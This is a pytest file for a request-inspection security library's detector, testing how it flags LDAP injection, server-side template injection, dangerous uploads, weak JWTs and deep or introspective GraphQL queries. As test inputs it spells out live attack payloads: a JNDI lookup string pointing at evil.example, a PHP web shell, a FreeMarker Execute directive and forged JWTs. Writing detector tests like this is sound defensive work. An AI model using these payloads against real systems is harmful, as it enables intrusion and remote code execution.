"""
Advanced Detection Tests - LDAP, template injection, uploads, JWT and GraphQL

Run with: pytest tests/test_advanced_detector.py -v
"""

from types import SimpleNamespace

import jwt
import pytest

from conftest import BENIGN_CORPUS, make_jwt
from rasp_guard import RequestInfo, Severity, ThreatType, UploadedFile
from rasp_guard.errors import ParseFailure
from rasp_guard.security_modules.advanced_detector import AdvancedDetector, graphql_depth
from rasp_guard.security_modules.threat_detector import Fragment


JWT_SECRET = "s3cret-signing-key-that-is-long-enough-for-hs256"


@pytest.fixture
def detector(clock):
    return AdvancedDetector(graphql_max_depth=7, max_upload_size=1000, clock=clock)


def of_type(threats, threat_type):
    return [t for t in threats if t.type == threat_type]


# =============================================================================
# LDAP INJECTION
# =============================================================================

class TestLDAPInjection:
    """Filter metacharacter abuse."""

    @pytest.mark.parametrize("payload", ["*)(uid=*))(|(uid=*", "admin)(|(password=*)"])
    def test_filter_injection(self, detector, payload):
        threats = of_type(detector.detect(payload), ThreatType.LDAP_INJECTION)
        assert len(threats) == 1
        assert threats[0].severity == Severity.CRITICAL

    def test_lone_wildcard_ignored(self, detector):
        assert of_type(detector.detect("john*"), ThreatType.LDAP_INJECTION) == []


# =============================================================================
# TEMPLATE INJECTION
# =============================================================================

class TestTemplateInjection:
    """Server-side template expressions."""

    @pytest.mark.parametrize("payload", ["{{7*7}}", "${7*7}", "<%= 7*7 %>"])
    def test_arithmetic_probe(self, detector, payload):
        threat = of_type(detector.detect(payload), ThreatType.TEMPLATE_INJECTION)[0]
        assert threat.severity == Severity.HIGH

    def test_object_traversal(self, detector):
        threat = of_type(detector.detect("{{config.__class__.__init__.__globals__}}"), ThreatType.TEMPLATE_INJECTION)[0]
        assert threat.confidence >= 80
        assert threat.metadata["delimiter"] == "{{ }}"

    def test_freemarker_directive(self, detector):
        threats = of_type(detector.detect('<#assign ex="freemarker.template.utility.Execute"?new()>'),
                          ThreatType.TEMPLATE_INJECTION)
        assert threats[0].description == "Template injection - template directive"

    def test_bare_placeholder_is_medium(self, detector):
        threat = of_type(detector.detect("{{name}}"), ThreatType.TEMPLATE_INJECTION)[0]
        assert threat.severity == Severity.MEDIUM

    def test_single_braces_ignored(self, detector):
        assert detector.detect("Hello {name}") == []

    def test_header_lookup_string(self, detector):
        fragment = Fragment("${jndi:ldap://evil.example/a}", "header", "user-agent")
        assert of_type(detector.detect(fragment), ThreatType.TEMPLATE_INJECTION)

    @pytest.mark.parametrize("value", BENIGN_CORPUS)
    def test_benign(self, detector, value):
        assert detector.detect(value) == []


# =============================================================================
# FILE UPLOADS
# =============================================================================

class TestUploads:
    """Dangerous file names, types and content."""

    def upload_threat(self, detector, upload):
        threats = detector.detect(Fragment(upload, "file", upload.filename))
        assert len(threats) <= 1
        return threats[0] if threats else None

    def test_php_webshell(self, detector):
        upload = UploadedFile(filename="shell.php", content_type="application/x-php", size=30,
                              head=b"<?php system($_GET['c']); ?>")
        threat = self.upload_threat(detector, upload)
        assert threat.type == ThreatType.DANGEROUS_UPLOAD
        assert threat.severity == Severity.CRITICAL
        assert len(threat.metadata["issues"]) == 3

    def test_plain_image(self, detector):
        upload = UploadedFile(filename="photo.jpg", content_type="image/jpeg", size=500, head=b"\xff\xd8\xff\xe0")
        assert self.upload_threat(detector, upload) is None

    def test_double_extension(self, detector):
        upload = UploadedFile(filename="avatar.php.jpg", content_type="image/jpeg", size=10)
        threat = self.upload_threat(detector, upload)
        assert threat.confidence == 70
        assert threat.severity == Severity.HIGH

    def test_null_byte_filename(self, detector):
        upload = UploadedFile(filename="shell.php%00.jpg", content_type="image/jpeg", size=10)
        threat = self.upload_threat(detector, upload)
        assert threat.severity == Severity.CRITICAL
        assert "null byte in filename" in threat.metadata["issues"]

    def test_htaccess(self, detector):
        upload = UploadedFile(filename=".htaccess", content_type="text/plain", size=10)
        assert self.upload_threat(detector, upload).confidence == 80

    def test_oversize(self, detector):
        upload = UploadedFile(filename="big.png", content_type="image/png", size=5000)
        threat = self.upload_threat(detector, upload)
        assert threat.confidence == 50
        assert threat.severity == Severity.MEDIUM

    def test_mime_mismatch(self, detector):
        upload = UploadedFile(filename="a.png", content_type="text/html", size=10)
        assert self.upload_threat(detector, upload).confidence == 40


# =============================================================================
# JWT
# =============================================================================

class TestJWT:
    """Structural checks on tokens, signatures are never verified."""

    def bearer(self, detector, token):
        return of_type(detector.detect(Fragment(f"Bearer {token}", "header", "authorization")), ThreatType.WEAK_JWT)

    def test_alg_none(self, detector):
        threats = self.bearer(detector, make_jwt({"alg": "none", "typ": "JWT"}, {"sub": "admin"}))
        assert len(threats) == 1
        assert threats[0].severity == Severity.CRITICAL
        assert threats[0].metadata["alg"] == "none"
        assert "alg none" in threats[0].metadata["issues"]

    def test_hs256_is_low(self, detector, clock):
        token = jwt.encode({"sub": "u1", "exp": int(clock()) + 3600}, JWT_SECRET, algorithm="HS256")
        threats = self.bearer(detector, token)
        assert len(threats) == 1
        assert threats[0].severity == Severity.LOW
        assert threats[0].metadata["alg"] == "hs256"

    def test_far_future_expiry(self, detector, clock):
        token = jwt.encode({"sub": "u1", "exp": int(clock()) + 20 * 365 * 24 * 3600}, JWT_SECRET, algorithm="HS256")
        threat = self.bearer(detector, token)[0]
        assert "expiry far in the future" in threat.metadata["issues"]
        assert threat.severity == Severity.HIGH

    def test_stripped_signature(self, detector):
        threat = self.bearer(detector, make_jwt({"alg": "RS256"}, {"sub": "x"}))[0]
        assert threat.metadata["issues"] == ["signature stripped"]

    def test_kid_traversal(self, detector):
        threat = self.bearer(detector, make_jwt({"alg": "RS256", "kid": "../../dev/null"}, {"sub": "x"}, "c2ln"))[0]
        assert "suspicious kid header" in threat.metadata["issues"]

    def test_embedded_key_url(self, detector):
        threat = self.bearer(detector, make_jwt({"alg": "RS256", "jku": "https://evil.example/keys"}, {}, "c2ln"))[0]
        assert threat.metadata["issues"] == ["embedded key reference jku"]

    def test_clean_rs256(self, detector):
        assert self.bearer(detector, make_jwt({"alg": "RS256", "kid": "key-1"}, {"sub": "x"}, "c2ln")) == []

    def test_malformed_token_in_body(self, detector):
        threats = of_type(detector.detect(Fragment({"token": "eyJhbGciOi.abc"}, "body", "")), ThreatType.WEAK_JWT)
        assert threats[0].metadata["malformed"] is True
        assert threats[0].metadata["field"] == "token"

    def test_non_bearer_authorization_ignored(self, detector):
        assert detector.detect(Fragment("Basic dXNlcjpwYXNz", "header", "authorization")) == []


# =============================================================================
# GRAPHQL
# =============================================================================

def nested_query(depth):
    return "query " + "{ a " * depth + "{ id }" + " }" * depth


class TestGraphQLDepth:
    """Selection set depth counting."""

    def test_simple(self):
        assert graphql_depth("{ a { b { c } } }") == 3

    def test_braces_in_strings_ignored(self):
        assert graphql_depth('{ a(arg: "{{{") { b } }') == 2

    def test_braces_in_block_strings_ignored(self):
        assert graphql_depth('{ a(x: """ { """) { b } }') == 2

    def test_comments_ignored(self):
        assert graphql_depth("{ a # {{{\n { b } }") == 2

    @pytest.mark.parametrize("document", ["{ a { b }", "{ a } }", '{ a(x: "open) }'])
    def test_malformed(self, document):
        with pytest.raises(ParseFailure):
            graphql_depth(document)


class TestGraphQLDetection:
    """Depth and introspection findings on GraphQL bodies."""

    def test_deep_query(self, detector):
        threats = of_type(detector.detect(Fragment({"query": nested_query(10)}, "body", "")), ThreatType.GRAPHQL_ABUSE)
        assert len(threats) == 1
        assert threats[0].metadata["depth_exceeded"] is True
        assert threats[0].metadata["depth"] == 11
        assert threats[0].severity == Severity.HIGH

    def test_shallow_query(self, detector):
        assert detector.detect(Fragment({"query": nested_query(3)}, "body", "")) == []

    def test_introspection(self, detector):
        threats = detector.detect(Fragment({"query": "{ __schema { types { name } } }"}, "body", ""))
        assert [t.metadata.get("introspection") for t in threats] == [True]
        assert threats[0].severity == Severity.MEDIUM

    def test_malformed_document(self, detector):
        threats = detector.detect(Fragment({"query": "{ user { id }"}, "body", ""))
        assert len(threats) == 1
        assert threats[0].type == ThreatType.ANOMALOUS_BEHAVIOR
        assert threats[0].metadata["parse_failure"] == "graphql"

    def test_raw_document_body(self, detector):
        document = "query " + "{ a " * 12 + "}" * 12
        threats = of_type(detector.detect(Fragment(document, "body", "")), ThreatType.GRAPHQL_ABUSE)
        assert threats[0].metadata["depth"] == 12

    def test_raw_introspection_body(self, detector):
        threats = detector.detect(Fragment("{ __type(name: \"User\") { name } }", "body", ""))
        assert [t.metadata.get("introspection") for t in threats] == [True]

    def test_other_fields_on_graphql_path(self, detector):
        context = SimpleNamespace(request=RequestInfo(method="POST", path="/api/graphql"))
        fragment = Fragment({"operations": {"doc": nested_query(10)}}, "body", "")
        assert of_type(detector.detect(fragment, context), ThreatType.GRAPHQL_ABUSE)
        assert not of_type(detector.detect(fragment), ThreatType.GRAPHQL_ABUSE)
